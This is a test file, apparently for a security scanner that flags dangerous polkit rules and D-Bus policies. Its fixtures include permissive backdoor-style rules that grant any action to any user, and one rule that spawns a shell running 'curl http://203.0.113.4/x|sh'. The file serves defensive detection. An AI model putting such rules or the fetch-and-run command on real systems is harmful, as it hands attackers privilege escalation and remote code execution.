import { expect, it } from 'vitest';
import { scanRoot, shown } from '../../../test/throwaway-root.ts';
import { polkit } from './check.ts';

const rule = async (text: string, more = {}) => (await scanRoot([polkit], { '/etc/polkit-1/rules.d/49-x.rules': text, ...more })).findings.map(({ kind, level, path }) => `${kind} ${level} ${path!.slice(path!.lastIndexOf('/') + 1)}`);

it('finds rules that grant everything', async () => {
  expect(await rule('polkit.addRule(function(action, subject) { return polkit.Result.YES; });')).toEqual(['intrusion critical 49-x.rules']);
  expect(await rule('polkit.addRule(function(action, subject) { if (subject.user == "www-data") return polkit.Result.YES; });')).toEqual(['weakness high 49-x.rules']);
  expect(await rule('polkit.addRule(function(action, subject) { if (action.id == "org.freedesktop.policykit.exec") return "yes"; });')).toEqual(['weakness high 49-x.rules']);
  expect(await rule('polkit.addRule(function(a, s) { polkit.spawn(["/bin/sh", "-c", "curl http://203.0.113.4/x|sh"]); });')).toEqual(['intrusion high 49-x.rules']);
  expect(shown(await scanRoot([polkit], { '/etc/polkit-1/localauthority/50-local.d/a.pkla': '[a]\nIdentity=unix-user:*\nAction=*\nResultAny=yes\n' }))).toEqual(['critical /etc/polkit-1/localauthority/50-local.d/a.pkla']);
  expect(shown(await scanRoot([polkit], { '/usr/share/polkit-1/actions/a.policy': '<action id="x.y"><defaults><allow_any>yes</allow_any></defaults><annotate key="org.freedesktop.policykit.exec.path">/usr/bin/x</annotate></action>' }))).toEqual(['high /usr/share/polkit-1/actions/a.policy']);
});

it('finds policies of the system bus that let anybody be anything', async () => {
  expect(shown(await scanRoot([polkit], { '/etc/dbus-1/system.d/a.conf': '<busconfig><policy context="default"><allow own="*"/></policy><policy user="www-data"><allow send_destination="*"/></policy></busconfig>' }))).toEqual(['high /etc/dbus-1/system.d/a.conf', 'medium /etc/dbus-1/system.d/a.conf']);
  expect(shown(await scanRoot([polkit], { '/etc/dbus-1/system.d/a.conf': '<busconfig><policy user="root"><allow own="*"/></policy><policy context="default"><allow send_destination="org.example.A"/></policy></busconfig>' }))).toEqual([]);
});

it('is silent for narrow rules, comments and what packages ship', async () => {
  expect(await rule('// return polkit.Result.YES everywhere\npolkit.addRule(function(action, subject) {\n if (action.id == "org.libvirt.unix.manage" && subject.isInGroup("libvirt")) return polkit.Result.YES;\n});')).toEqual([]);
  expect(await rule('polkit.addRule(function(action, subject) { if (subject.isInGroup("wheel")) return polkit.Result.YES; });')).toEqual(['weakness low 49-x.rules']);
  expect(await rule('', { '/etc/polkit-1/rules.d/49-x.rules': { text: 'polkit.addRule(function() { return polkit.Result.YES; });', package: 'odd' } })).toEqual([]);
  expect(await rule(`${'/*'.repeat(50_000)}${'polkit.addRule('.repeat(5000)}`)).toEqual([]);
});
